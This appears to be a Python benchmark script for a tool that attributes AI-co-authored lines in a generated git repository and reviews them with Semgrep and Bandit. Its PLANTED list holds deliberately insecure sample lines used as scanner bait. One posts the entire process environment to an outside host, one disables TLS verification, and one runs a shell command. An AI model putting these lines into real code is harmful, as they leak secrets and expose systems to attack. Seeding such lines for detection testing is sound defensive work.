"""Benchmark: AI-authored-line attribution and review on a generated repository.

The repository (``--commits`` 20,000 commits over ``--files`` 5,000 Python files, one commit
in ten marked ``Co-Authored-By: Claude``) is written with ``git fast-import`` and kept in
``bench/_data/``. Two ratios, each against a reference timed in the same run:

1. attribution: aigate's history read + :func:`gate.authored.attribute.attribute` (diff-tree of
   the marked commits, blame of their touched files in a bounded pool) against ``git log``
   plus one ``git blame --incremental`` of each of the same touched files, run one after the
   other. Target: ratio ≤ 2.
2. review: :func:`gate.authored.review.review` (Semgrep once over only the files with
   AI-authored lines, plus Bandit on them) against Semgrep with the same rules over the whole
   tree.

    python bench/ai_lines.py [--commits 20000] [--files 5000] [--fresh] [--skip-review]
"""

from __future__ import annotations

import argparse
import os
import random
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import TypeVar

from gate.authored.attribute import Attribution, attribute
from gate.authored.collect import marked_commits
from gate.authored.review import review as run_review
from gate.authored.review import rule_files
from gate.discover import history
from gate.discover.assistant_catalogue import Signal, catalogue

T = TypeVar("T")
GENERATOR_VERSION = 1
DATA = Path(__file__).resolve().parent / "_data"
TARGET = 2.0
MARK = "Co-Authored-By: Claude Opus 4.5 <noreply@anthropic.com>"
PLANTED = (
    "requests.get(url, verify=False)",
    "subprocess.run(cmd, shell=True)",
    "requests.post('https://c.example.cn/u', json=dict(os.environ))",
    "value = compute(1)",
    "value = compute(2)",
    "return value",
)


def _env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(GIT_CONFIG_NOSYSTEM="1", GIT_CONFIG_GLOBAL=os.devnull, LC_ALL="C")
    return env


def generate(dest: Path, commits: int, files: int, seed: int = 11) -> int:
    """Write the repository with one fast-import process; the number of marked commits."""
    dest.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", "-b", "main", str(dest)], check=True, env=_env())
    rnd = random.Random(seed)
    names = [f"src/pkg{i // 100}/mod{i % 100}.py" for i in range(files)]
    content = {n: [f"# {n}", "import os", "import requests", ""] for n in names}
    proc = subprocess.Popen(
        ["git", "fast-import", "--quiet"], cwd=dest, stdin=subprocess.PIPE, env=_env()
    )
    assert proc.stdin is not None
    out = proc.stdin
    marked = 0
    when = 1_700_000_000
    # The first commit writes every file; then each commit edits one to three of them.
    for i in range(commits):
        ai = i > 0 and rnd.random() < 0.10
        marked += ai
        touched = names if i == 0 else rnd.sample(names, rnd.randint(1, 3))
        msg = f"Change {i}\n\n{MARK}\n" if ai else f"Change {i}\n"
        data = msg.encode()
        out.write(b"commit refs/heads/main\n")
        out.write(f"committer Dev <dev@example.com> {when + i * 60} +0000\n".encode())
        out.write(f"data {len(data)}\n".encode() + data)
        for name in touched:
            lines = content[name]
            if i:
                at = rnd.randint(4, len(lines))
                if len(lines) > 40 and rnd.random() < 0.5:
                    del lines[at - 1 : at + 1]
                lines.insert(at, rnd.choice(PLANTED) + f"  # {i}")
            blob = ("\n".join(lines) + "\n").encode()
            out.write(f"M 100644 inline {name}\ndata {len(blob)}\n".encode() + blob)
        out.write(b"\n")
    out.close()
    if proc.wait() != 0:
        raise SystemExit("git fast-import failed")
    subprocess.run(["git", "checkout", "-q", "main"], cwd=dest, check=True, env=_env())
    return marked


def _timed(fn: Callable[[], T]) -> tuple[float, T]:
    start = time.perf_counter()
    value = fn()
    return time.perf_counter() - start, value


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    ap.add_argument("--commits", type=int, default=20_000)
    ap.add_argument("--files", type=int, default=5_000)
    ap.add_argument("--fresh", action="store_true")
    ap.add_argument("--skip-review", action="store_true")
    args = ap.parse_args()
    repo_dir = DATA / f"ai_lines-v{GENERATOR_VERSION}-{args.commits}-{args.files}"
    if args.fresh and repo_dir.exists():
        shutil.rmtree(repo_dir)
    if not repo_dir.exists():
        took, marked = _timed(lambda: generate(repo_dir, args.commits, args.files))
        print(f"generated {repo_dir.name}: {marked} marked commits in {took:.1f} s")
    cat = catalogue()
    repo = history.open_repo(repo_dir)
    assert repo is not None

    def ours() -> tuple[int, Attribution, list[str]]:
        rng = history.resolve_range(repo, "all")
        details = history.CommitDetails(repo)
        matches: list[tuple[history.Commit, list[Signal], list[str]]] = []
        for commit in history.read_commits(repo, rng):
            signals = cat.commit_signals(commit)
            if signals:
                details.request(commit.sha)
                matches.append((commit, signals, []))
        found = details.finish()
        marked = marked_commits(matches, found)
        result = attribute(repo, marked, cat)
        touched = sorted({p for m in marked for p in m.paths})
        return len(marked), result, touched

    took_ours, (n_marked, attributed, touched) = _timed(ours)
    n_lines = sum(len(n) for by in attributed.lines.values() for n in by.values())

    def reference() -> int:
        subprocess.run(
            ["git", "log", "--format=%H%x00%an%x00%ae%x00%B", "-z"],
            cwd=repo_dir, env=_env(), check=True, capture_output=True,
        )  # fmt: skip
        for path in touched:
            subprocess.run(
                ["git", "blame", "--incremental", "HEAD", "--", path],
                cwd=repo_dir, env=_env(), check=True, capture_output=True,
            )  # fmt: skip
        return len(touched)

    took_ref, _ = _timed(reference)
    ratio = took_ours / took_ref
    print(
        f"attribution: {n_marked} marked commits, {len(touched)} touched files, {n_lines} AI"
        f" lines at HEAD: aigate {took_ours:.2f} s, git log + blame --incremental"
        f" {took_ref:.2f} s, ratio {ratio:.2f} (target <= {TARGET}) on {os.cpu_count()} cores"
    )
    ok = ratio <= TARGET
    if not args.skip_review:
        ai_lines = {path: attributed.ai_lines(path) for path in attributed.lines}

        def reviewed() -> int:
            return len(run_review(repo_dir, ai_lines).findings)

        took_review, findings = _timed(reviewed)

        def whole_tree() -> int:
            argv = [str(Path(sys.executable).parent / "semgrep"), "scan", "--json", "--quiet"]
            argv += ["--metrics=off", "--disable-version-check", "--oss-only", "--jobs=1"]
            for rule in rule_files():
                argv += ["--config", str(rule)]
            done = subprocess.run(
                [*argv, "src"], cwd=repo_dir, capture_output=True, check=False,
                env={**os.environ, "SEMGREP_ENABLE_VERSION_CHECK": "0",
                     "SEMGREP_SEND_METRICS": "off"},
            )  # fmt: skip
            return done.returncode

        took_whole, _ = _timed(whole_tree)
        print(
            f"review: {len(ai_lines)} files with AI lines, {findings} findings on them:"
            f" Semgrep + Bandit on those files {took_review:.2f} s; Semgrep over the whole"
            f" tree ({args.files} files) {took_whole:.2f} s, ratio {took_review / took_whole:.2f}"
        )
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
